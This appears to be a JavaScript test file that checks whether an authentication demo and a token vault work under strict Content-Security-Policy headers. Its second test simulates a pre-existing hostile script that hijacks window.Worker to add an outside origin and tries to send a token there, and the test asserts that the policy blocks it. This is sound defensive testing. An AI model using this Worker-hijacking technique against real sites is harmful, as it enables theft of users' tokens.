// Strict policies: the demo and the vault under a Content-Security-Policy for the page and another for the worker's file.

import assert from "node:assert/strict";
import { writeFileSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, beforeEach, describe, test } from "node:test";
import { stageDemo } from "../support/demo.mjs";
import { startEcho } from "../support/echo.mjs";
import { PASSWORD, stage, until } from "../support/stage.mjs";
import { run, signIn } from "../support/vault.mjs";
import { poison } from "./scene.mjs";

const MARY = { username: "mary", password: "Shelley-1797" };
const PAGE = "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; worker-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'";
const TRUSTED_TYPES = "; require-trusted-types-for 'script'; trusted-types cognito-vault";

/** Takes the reports of violations, and shows what the vault may not reach. */
let elsewhere;
before(async () => void (elsewhere = await startEcho()));
after(() => elsewhere?.close());
beforeEach(() => void (elsewhere.received.length = 0));

const worker = (pool) => `default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'self' ${pool.url}; report-uri ${elsewhere.url}/report`;
const headers = (page) => (path, pool) => ({ "content-security-policy": /\/worker[^/]*\.js$/.test(path) ? worker(pool) : `${page}; report-uri ${elsewhere.url}/report` });

/** The page's own account of what its policy has refused. */
function listen(site) {
  const source = "window.violations = []; addEventListener('securitypolicyviolation', (event) => violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`), true);\n";
  writeFileSync(join(site, "violations.js"), source);
  const page = join(site, "index.html");
  writeFileSync(page, readFileSync(page, "utf8").replace("<head>", '<head><script src="/violations.js"></script>'));
}

for (const [name, policy] of [["a strict policy", PAGE], ["a strict policy with Trusted Types", PAGE + TRUSTED_TYPES]]) {
  describe(`the demo under ${name}`, () => {
    const on = stageDemo({ headers: headers(policy), change: listen });

    test("does all that it does without one, and nothing is reported", async () => {
      await on.pool.addUser(MARY.username, MARY.password);
      const demo = await on.open();
      await demo.signIn({ ...MARY, password: "Wrong-Password-1" });
      await demo.fails("The user name or the password is wrong.");
      await demo.signIn(MARY);
      await demo.heading("Hello, mary");
      await demo.press("Call the API");
      await demo.reads("200");
      await demo.press("Refresh now");
      await demo.reads("Tokens refreshed at");
      await demo.press("Try an unlisted address");
      await demo.reads("OriginNotAllowed");
      await demo.press("Sign out");
      await demo.reads("You are signed out.");
      await demo.follow("Create an account");
      await demo.heading("Create an account");
      await demo.fill({ "User name": "anne", "E-mail": "anne@example.com", Password: "Lister-1791-x" });
      await demo.press("Create account");
      await demo.heading("Confirm your account");
      assert.deepEqual(await demo.page.evaluate(() => window.violations), []);

      // One that is meant: it shows that violations are seen, and no report from before it is still on its way.
      await demo.page.evaluate(() => fetch("https://meant.test/").catch(() => undefined));
      assert.equal((await demo.page.evaluate(() => window.violations)).length, 1);
      await until(() => elsewhere.received.some(({ body }) => body.includes("meant.test")));
      assert.deepEqual(elsewhere.received.filter(({ body }) => !body.includes("meant.test")), []);
    });
  });
}

describe("a script that was there before the vault", () => {
  const on = stage({ headers: headers(PAGE), change: poison });

  test("cannot have a token sent elsewhere where the worker's file has a policy of its own", async () => {
    await on.pool.addUser("joan", PASSWORD);
    const page = await on.blank();
    await page.goto(on.fixture.url);
    await page.waitForSelector("html[data-ready=yes]");
    await page.evaluate((evil) => {
      window.Worker = class extends window.Worker {
        constructor(file, options) {
          super(file, { ...options, name: options.name.replace('"apiOrigins":[', `"apiOrigins":["${evil}",`) });
        }
        postMessage(message, transfer) {
          const { type, config } = message;
          super.postMessage(type === "start" ? { ...message, config: { ...config, apiOrigins: [evil, ...config.apiOrigins] } } : message, transfer);
        }
      };
    }, elsewhere.url);
    await run(page, (config) => void window.start(config), { ...on.pool.config, engine: "worker" });
    assert.equal(await signIn(page, "joan", PASSWORD), "signedIn");
    const request = { url: `${elsewhere.url}/taken`, method: "GET", headers: [], body: null };
    const { error } = await page.evaluate((request) => window.hostile.call([...window.hostile.ends][0], "fetch", [request]), request);
    assert.equal(error.code, "Network", "the vault was willing, and its policy was not");
    assert.deepEqual(elsewhere.received.filter(({ url }) => url === "/taken"), []);
  });
});
